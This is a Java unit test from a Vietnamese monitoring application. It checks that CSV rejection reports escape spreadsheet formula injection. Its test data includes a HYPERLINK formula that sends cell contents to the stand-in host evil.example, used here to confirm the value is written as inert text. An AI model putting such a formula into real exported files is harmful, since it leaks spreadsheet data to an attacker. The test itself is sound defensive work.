package vn.giamsat.adapters.persistence.imports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import vn.giamsat.adapters.fileimport.TableFiles;
import vn.giamsat.application.common.FileFormat;
import vn.giamsat.application.common.TableFilePort.Table;
import vn.giamsat.domain.common.Reason;

/** Issue 14, item 9: the rejection report repeats values from the uploaded file; none may run in a spreadsheet. */
class RejectionsTest {
    static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";

    @Test
    void aRejectedValueThatIsAFormulaIsWrittenAsTextAndReadsBackAsTheSameText() throws Exception {
        Rejections rejections = new Rejections();
        rejections.add(7, "ma_don_vi", Reason.of("import.unit-unknown", "Không có đơn vị mã này.", "No such unit."), LINK);
        rejections.add(8, "ghi_chu", Reason.of("x", "-1 là số âm", "@mention"), "+84 905 000 000");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        rejections.finish().writeCsv(out);

        String text = out.toString(StandardCharsets.UTF_8);
        assertThat(text).contains(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\"\r\n")
                .contains(";'-1 là số âm;'@mention;'+84 905 000 000\r\n");
        assertThat(text.lines().skip(1)).allSatisfy(line -> assertThat(line).doesNotContain(";=", ";+", ";-", ";@"));

        try (Table t = new TableFiles().open(FileFormat.CSV, new ByteArrayInputStream(out.toByteArray()))) {
            assertThat(t.next()).isTrue(); // header
            assertThat(t.next()).isTrue();
            assertThat(t.fields()).containsExactly("7", "ma_don_vi", "import.unit-unknown", "Không có đơn vị mã này.",
                    "No such unit.", LINK);
            assertThat(t.next()).isTrue();
            assertThat(t.fields()).containsExactly("8", "ghi_chu", "x", "-1 là số âm", "@mention", "+84 905 000 000");
        }
    }
}
